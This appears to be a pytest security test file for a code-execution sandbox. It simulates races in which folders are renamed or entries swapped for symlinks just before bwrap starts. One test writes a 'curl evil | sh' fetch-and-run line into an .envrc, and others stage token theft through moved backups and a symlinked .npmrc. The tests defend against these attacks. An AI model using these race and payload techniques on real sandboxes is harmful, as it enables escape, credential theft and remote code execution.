"""Code of one step changing the workspace while another step's sandbox is being set up.

Parallel steps run code in the same workspace at the same time. The jail binds read-only entries
by path, after a scan; a program already running can rename a folder between that scan and
bwrap's set-up. These tests make that move at that exact moment (as a running program would,
winning the race) by wrapping the last step before bwrap starts.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from masterplanner.errors import SandboxError
from masterplanner.sandbox import jail, pool
from masterplanner.tools.code_execution import execute_code
from masterplanner.tools.workspace import Workspace

pytestmark = [pytest.mark.security, pytest.mark.usefixtures("sandbox_available")]


def _just_before_bwrap(monkeypatch: pytest.MonkeyPatch, move: Callable[[], None]) -> None:
    """Run `move` after the scan, right before bwrap starts (where a concurrent program may act)."""
    original = jail._command

    def command_then_move(*args: Any, **kwargs: Any) -> list[str]:
        command = original(*args, **kwargs)
        move()
        return command

    monkeypatch.setattr(jail, "_command", command_then_move)


def _as_sandbox_user(path: Path) -> None:
    """What the other step's program creates belongs to the sandbox uid (as root; else to us)."""
    uids = pool.leased_uids()
    if uids:
        os.chown(path, uids[0], uids[0])


def _move_sub_aside(root: Path) -> Callable[[], None]:
    def move() -> None:
        (root / "sub").rename(root / "aside")
        (root / "sub").mkdir()
        _as_sandbox_user(root / "sub")

    return move


def test_a_settings_backup_moved_aside_during_set_up_stays_unread(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, the empty file was bound in the new folder and the program read the real one whole."""
    root = workspace.root
    (root / "sub").mkdir()
    (root / "sub" / "masterplanner.toml.bak").write_text('[mcp_servers.x]\nenv = { TOKEN = "sk-secret" }\n')
    _just_before_bwrap(monkeypatch, _move_sub_aside(root))
    result = asyncio.run(
        execute_code(workspace, "python", "print(repr(open('aside/masterplanner.toml.bak').read()))")
    )
    assert "sk-secret" not in result.stdout
    assert (result.exit_code, result.stdout) == (125, "")
    assert result.stderr == (
        "sandbox: the read-only entry 'sub/masterplanner.toml.bak' is not where it was (sub was replaced): "
        "the workspace changed while the sandbox was being set up (code running at the same time in "
        "this workspace?); the program was not run\n"
    )


def test_a_protected_entry_moved_aside_during_set_up_stays_read_only(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before, the read-only bind landed in the new folder and the program rewrote the real `.envrc`."""
    root = workspace.root
    (root / "sub").mkdir()
    (root / "sub" / ".envrc").write_text("export A=1\n")
    (root / "sub" / ".envrc").chmod(0o666)  # even if its mode lets anyone write
    original = _move_sub_aside(root)

    def move() -> None:
        original()
        (root / "sub" / ".envrc").write_text("")  # bwrap binds it by path: it needs a source there
        _as_sandbox_user(root / "sub" / ".envrc")

    _just_before_bwrap(monkeypatch, move)
    code = "open('aside/.envrc', 'a').write('curl evil | sh\\n')"
    result = asyncio.run(execute_code(workspace, "python", code))
    assert (root / "aside" / ".envrc").read_text() == "export A=1\n"
    assert result.exit_code == 125
    assert "'sub/.envrc' is not where it was (sub was replaced)" in result.stderr


def test_read_only_entries_in_place_let_the_program_run(workspace: Workspace) -> None:
    """The check passes on an untouched workspace: deep paths, names that are not UTF-8, symlinks."""
    root = workspace.root
    odd = os.fsdecode(b"dir\xff")
    deep = root / odd / "a" / "b"
    deep.mkdir(parents=True)
    (deep / ".envrc").write_text("export A=1\n")
    (deep / "masterplanner.toml").write_text("secret = 1\n")
    (root / ".git").mkdir()
    (root / ".npmrc").symlink_to("/etc/passwd")  # a protected symlink is not bound
    code = (
        "import os\n"
        f"base = {os.fsencode(odd)!r} + b'/a/b/'\n"
        "print(open(base + b'.envrc').read().strip(), repr(open(base + b'masterplanner.toml').read()))\n"
        "print(os.path.isdir('.git'))"
    )
    result = asyncio.run(execute_code(workspace, "python", code))
    assert (result.exit_code, result.stdout, result.stderr) == (0, "export A=1 ''\nTrue\n", "")


def test_an_entry_swapped_for_a_symlink_out_during_set_up_binds_nothing_from_outside(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A protected file the other program made, swapped for `../.npmrc` just before bwrap.

    Before, when not root, bwrap followed the link: the person's `.npmrc` beside the workspace (a
    registry token) was bound at `/.npmrc` and read. (As root the link leads into the stage's
    parent, where nothing is, and bwrap refused to start.)
    """
    root = workspace.root
    (root.parent / ".npmrc").write_text("//registry.npmjs.org/:_authToken=npm-secret\n")
    (root / ".npmrc").write_text("made by the other program\n")
    _as_sandbox_user(root / ".npmrc")

    def swap() -> None:
        (root / ".npmrc").unlink()
        (root / ".npmrc").symlink_to("../.npmrc")

    _just_before_bwrap(monkeypatch, swap)
    code = "import os\nprint(open('/.npmrc').read() if os.path.exists('/.npmrc') else 'nothing')"
    result = asyncio.run(execute_code(workspace, "python", code))
    assert "npm-secret" not in result.stdout
    assert result.exit_code != 0


def _put_back_once_checking(root: Path, name: str, aside: str) -> threading.Thread:
    """Put `aside` back as `name` once the delayed check has started (bwrap made every bind by then)."""

    def put_back() -> None:
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and not _check_started():
            time.sleep(0.005)
        (root / name).unlink()
        (root / aside).rename(root / name)

    return threading.Thread(target=put_back)


def _check_started() -> bool:
    """Is the delayed check running (not bwrap or a starter before it, whose arguments hold it too)?"""
    started = f"-I\0-S\0-c\0import time\n{_DELAY_MARK}".encode()
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            if cmdline.read_bytes().partition(b"\0")[2].startswith(started):
                return True
    return False


_DELAY_MARK = "# the check waits here for the race\n"


def test_an_entry_swapped_for_a_symlink_to_the_workspace_and_put_back_is_refused(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`.git` swapped for `.git -> .` just before bwrap, put back (same inode) before the check ran.

    bwrap followed the link and bound the whole workspace read-only over `/workspace`; `.git` put
    back then sat there with its inode, on a read-only mount, so the check let the program run
    although no bind was on `.git` and the workspace was read-only. The check now asks that each
    entry be the root of a mount at its own path, and that `/workspace` be read-write.
    """
    root = workspace.root
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    original = jail._command
    threads: list[threading.Thread] = []

    def command_then_swap(*args: Any, **kwargs: Any) -> list[str]:
        command = original(*args, **kwargs)
        text = command.index("-S") + 2  # python3 -I -S -c TEXT: the check
        command[text] = f"import time\n{_DELAY_MARK}time.sleep(1)\n" + command[text]
        (root / ".git").rename(root / "git-aside")
        (root / ".git").symlink_to(".")
        threads.append(_put_back_once_checking(root, ".git", "git-aside"))
        threads[0].start()
        return command

    monkeypatch.setattr(jail, "_command", command_then_swap)
    result = asyncio.run(execute_code(workspace, "python", "print('ran')"))
    threads[0].join()
    assert (root / ".git" / "config").read_text() == "[core]\n"
    assert (result.exit_code, result.stdout) == (125, "")
    assert result.stderr == (
        "sandbox: the workspace is read-only (a read-only bind landed on it): the workspace changed while "
        "the sandbox was being set up (code running at the same time in this workspace?); the program "
        "was not run\n"
    )


def test_a_missing_system_python_is_named_when_entries_are_read_only(
    workspace: Workspace, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Before, a bash program in a workspace with a `.git` failed with bwrap's execvp error."""
    (workspace.root / ".git").mkdir()
    monkeypatch.setattr(jail, "_CHECK_PYTHON", str(tmp_path / "no-python3"), raising=False)
    with pytest.raises(SandboxError) as raised:
        asyncio.run(execute_code(workspace, "bash", "echo ran"))
    assert str(raised.value) == (
        "the workspace has entries code may not change, and the check that they stay read-only in the "
        f"sandbox needs the system Python ({tmp_path / 'no-python3'}), which is not installed here "
        "(apt-get install -y python3)"
    )
